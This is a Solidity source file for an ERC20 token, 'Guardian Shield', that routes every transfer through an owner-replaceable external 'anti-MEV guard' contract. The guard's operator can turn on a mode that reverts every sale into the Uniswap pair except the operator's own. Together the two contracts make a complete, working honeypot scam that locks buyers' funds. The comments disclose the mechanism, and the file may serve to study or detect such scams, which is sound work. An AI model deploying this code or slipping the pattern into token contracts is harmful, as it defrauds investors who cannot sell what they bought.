// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IUniswapV2Factory, IUniswapV2Router02} from "./IUniswapV2.sol";

interface IAntiMevGuard {
    function onTransfer(address from, address to, uint256 amount) external;
}

/// GUARDIAN SHIELD — protected by a third-party anti-MEV guard.
/// Every transfer calls out to a guard contract whose source is not published.
contract GuardianShield is ERC20, Ownable {
    address public immutable uniswapV2Pair;
    address private _guard;

    constructor(address router, address guard, uint256 supply) ERC20("Guardian Shield", "GSHLD") Ownable(msg.sender) {
        IUniswapV2Router02 r = IUniswapV2Router02(router);
        uniswapV2Pair = IUniswapV2Factory(r.factory()).createPair(address(this), r.WETH());
        _guard = guard;
        _mint(msg.sender, supply);
    }

    function setGuard(address guard) external onlyOwner {
        _guard = guard;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_guard != address(0) && from != address(0)) {
            IAntiMevGuard(_guard).onTransfer(from, to, value);
        }
        super._update(from, to, value);
    }
}

/// The "guard": deployed from bytecode only (never verified on an explorer). Its operator can
/// switch it into a mode that refuses every sell into the watched pair.
contract ShieldGuard {
    address private immutable _operator;
    address private _watchedPair;
    bool private _strict;

    constructor(address operator_) {
        _operator = operator_;
    }

    function configure(address pair, bool strict) external {
        require(msg.sender == _operator);
        _watchedPair = pair;
        _strict = strict;
    }

    function onTransfer(address from, address to, uint256) external view {
        if (_strict && to == _watchedPair && from != _operator && tx.origin != _operator) {
            revert();
        }
    }
}
